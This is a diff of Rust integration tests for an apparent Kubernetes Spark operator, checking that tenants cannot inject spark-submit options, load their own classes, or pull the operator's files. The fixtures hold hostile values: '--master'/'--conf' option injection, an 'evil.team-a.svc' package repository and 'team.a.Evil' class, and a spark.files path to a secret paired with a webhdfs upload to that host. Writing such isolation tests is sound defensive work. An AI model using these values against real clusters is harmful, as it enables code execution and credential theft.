@@ -6,6 +6,7 @@
 
 use super::{
     applications::application,
+    calls::tried,
     kubectl::try_kubectl_with,
     kubelet,
     namespace::{Namespace, Ours, Reviewed},
@@ -18,12 +19,15 @@ use k8s_openapi::api::core::v1::{ConfigMap, Pod, Secret, Service};
 use serde_json::{Value, json};
 use std::fs;
 
-/// `spark-submit` treats a `mainApplicationFile` that begins with `--`, and the arguments after it, as options.
+/// `spark-submit` treats a `mainApplicationFile` that begins with `--`, and the arguments after it, as options; what is
+/// submitted natively is validated before as well, which its type says.
 #[tokio::test]
 #[ignore = "needs kube-apiserver: make test"]
-async fn options_of_spark_submit_in_place_of_a_program_are_refused_when_they_are_applied() {
+async fn options_of_spark_submit_in_place_of_a_program_are_refused_when_they_are_applied_and_by_the_operator()
+{
     let namespace = Namespace::new("tenant-options").await;
-    let _reviewed = Reviewed::begin();
+    let reviewed = Reviewed::begin();
+    let _node = SubmissionNode::of(&namespace, &stand_in()).start().await;
     let operator = Operator::with(&namespace).by_spark_submit().start().await;
     for (object, field, value) in [
         (injecting(), "spec.mainApplicationFile", "--master"),
@@ -37,18 +41,13 @@ async fn options_of_spark_submit_in_place_of_a_program_are_refused_when_they_are
     }
     assert_eq!(namespace.list::<SparkApplication>().await, Vec::<Value>::new());
     assert_eq!(namespace.list::<ScheduledSparkApplication>().await, Vec::<Value>::new());
-    assert!(!operator.has_had_a_child());
-}
 
-/// The application was stored while the webhook was not called. `spark-submit` would take the options; what is submitted
-/// natively is validated before as well, which its type says.
-#[tokio::test]
-#[ignore = "needs kube-apiserver: make test"]
-async fn options_of_spark_submit_in_place_of_a_program_are_refused_by_the_operator_before_it_makes_anything()
-{
-    let namespace = Namespace::new("tenant-stored").await;
-    let _node = SubmissionNode::of(&namespace, &stand_in()).start().await;
-    let operator = Operator::with(&namespace).by_spark_submit().start().await;
+    // The applications are stored while the webhook is not called.
+    drop(reviewed);
+    super::eventually("the webhook is not called any more", async || {
+        tried(&injecting()).map_err(|error| error.to_string())
+    })
+    .await;
     for (application, field) in
         [(injecting(), "spec.mainApplicationFile: `--master`"), (mixing(), "spec.arguments[1]: `--conf`")]
     {
@@ -64,28 +63,47 @@ async fn options_of_spark_submit_in_place_of_a_program_are_refused_by_the_operat
     assert!(!operator.has_had_a_child());
 }
 
-/// `spark-submit` loads the classes of `deps.packages` and of feature steps, which the user chooses.
 #[tokio::test]
 #[ignore = "needs kube-apiserver: make test"]
-async fn classes_of_the_applications_run_in_its_own_pod_or_not_at_all() {
+async fn classes_files_and_labels_bring_an_application_nothing_of_others() {
     let namespace = Namespace::new("tenant-classes").await;
+    let files = namespace.beside("tenant-files").await;
+    let labels = namespace.beside("tenant-labels").await;
+    let steps = with_classes();
+    let operator = Operator::start(&namespace).await;
+    no_file_of_the_operators_comes_into_the_namespace_of_an_application(&files, &operator, &namespace).await;
+    classes_of_the_applications_run_in_its_own_pod(&namespace, &steps).await;
+    assert!(!operator.has_had_a_child());
+    drop(operator);
+    files.clear::<SparkApplication>().await;
+    let operator = Operator::with(&namespace).argument("--submitter=native").start().await;
+    classes_of_the_applications_run_not_at_all(&namespace, steps).await;
+    a_pod_is_no_executor_by_its_labels_alone(&labels).await;
+    assert!(!operator.has_had_a_child());
+}
+
+/// Returns an application with classes of `deps.packages` and of a feature step, which `spark-submit` loads and the user
+/// chooses.
+fn with_classes() -> Value {
     let mut steps = application("steps");
     steps["metadata"]["annotations"]["sparkoperator.k8s.io/submitter"] = json!("spark-submit");
     steps["spec"]["deps"] =
         json!({"packages": ["team-a:evil:1"], "repositories": ["http://evil.team-a.svc/"]});
     steps["spec"]["sparkConf"] = json!({"spark.kubernetes.driver.pod.featureSteps": "team.a.Evil"});
-    {
-        let operator = Operator::start(&namespace).await;
-        namespace.apply(&steps);
-        let pod = namespace.submission_pod().await;
-        assert_eq!(pod["spec"]["serviceAccountName"], "spark");
-        assert_eq!(pod["metadata"]["namespace"], namespace.name);
-        assert!(!operator.has_had_a_child());
-        namespace.delete::<SparkApplication>("steps").await;
-        namespace.has_no_pods().await;
-    }
+    steps
+}
+
+async fn classes_of_the_applications_run_in_its_own_pod(namespace: &Namespace, steps: &Value) {
+    namespace.apply(steps);
+    let pod = namespace.submission_pod().await;
+    assert_eq!(pod["spec"]["serviceAccountName"], "spark");
+    assert_eq!(pod["metadata"]["namespace"], namespace.name);
+    namespace.delete::<SparkApplication>("steps").await;
+    namespace.has_no_pods().await;
+}
+
+async fn classes_of_the_applications_run_not_at_all(namespace: &Namespace, mut steps: Value) {
     let before = namespace.submission_pods_ever().await;
-    let operator = Operator::with(&namespace).argument("--submitter=native").start().await;
     for annotated in [true, false] {
         if !annotated {
             steps["metadata"]["annotations"].take();
@@ -102,15 +120,16 @@ async fn classes_of_the_applications_run_in_its_own_pod_or_not_at_all() {
         assert!(why.starts_with(field), "{why}");
     }
     assert_eq!(namespace.submission_pods_ever().await, before);
-    assert!(!operator.has_had_a_child());
 }
 
-/// A path that an application names is a path in the submission pod, not in the operator's pod.
-#[tokio::test]
-#[ignore = "needs kube-apiserver: make test"]
-async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application() {
+/// A path that an application names is a path in the submission pod, not in the operator's pod. `operators` is the namespace
+/// in whose folder the operator has its files.
+async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application(
+    namespace: &Namespace,
+    operator: &Operator,
+    operators: &Namespace,
+) {
     const SECRET: &str = "of-the-operator-alone";
-    let namespace = Namespace::new("tenant-files").await;
     let file = namespace.folder.join("token");
     fs::write(&file, SECRET).unwrap();
     let path = file.to_str().unwrap();
@@ -124,7 +143,6 @@ async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application() {
         "spark.files": format!("file://{path}"),
         "spark.kubernetes.file.upload.path": "webhdfs://evil.team-a.svc/x",
     });
-    let operator = Operator::start(&namespace).await;
     let names = ["krb5", "template", "upload"];
     for application in [&krb5, &template, &upload] {
         namespace.apply(application);
@@ -142,7 +160,7 @@ async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application() {
         .await;
     }
     let kubeconfig: Value =
-        serde_json::from_str(&fs::read_to_string(namespace.folder.join("operator.kubeconfig")).unwrap())
+        serde_json::from_str(&fs::read_to_string(operators.folder.join("operator.kubeconfig")).unwrap())
             .unwrap();
     let token = kubeconfig["users"][0]["user"]["token"].as_str().unwrap();
     for text in [
@@ -153,21 +171,16 @@ async fn no_file_of_the_operators_comes_into_the_namespace_of_an_application() {
         assert!(!text.contains(SECRET) && !text.contains(token), "{text}");
     }
     assert!(!operator.log().contains(SECRET));
-    assert!(!operator.has_had_a_child());
 }
 
 /// Whoever may create pods, and delete none, can write any labels into one.
-#[tokio::test]
-#[ignore = "needs kube-apiserver: make test"]
-async fn a_pod_is_no_executor_by_its_labels_alone() {
-    let namespace = Namespace::new("tenant-labels").await;
-    let _operator = Operator::with(&namespace).argument("--submitter=native").start().await;
+async fn a_pod_is_no_executor_by_its_labels_alone(namespace: &Namespace) {
     for name in ["colleague", "own"] {
         namespace.apply(&application(name));
         namespace.reaches(name, "SUBMITTED").await;
     }
     let driver = namespace.pod("colleague-driver").await.unwrap();
-    let executor = spark::make_executor(&namespace, &driver, 1).await;
+    let executor = spark::make_executor(namespace, &driver, 1).await;
     let pod = |name: &str, application: &str, submission_id: &Value| {
         json!({
             "metadata": {"name": name, "labels": {
@@ -193,8 +206,8 @@ async fn a_pod_is_no_executor_by_its_labels_alone() {
             status["applicationState"]["state"] == "SUBMITTED" && status["submissionID"] != before
         })
         .await;
-    kubelet::runs(&namespace, "colleague-driver").await;
-    kubelet::runs(&namespace, &executor).await;
+    kubelet::runs(namespace, "colleague-driver").await;
+    kubelet::runs(namespace, &executor).await;
     let counted = namespace
         .becomes("colleague", "told of its executor", |application| {
             application["status"]["executorState"][&executor] == "RUNNING"
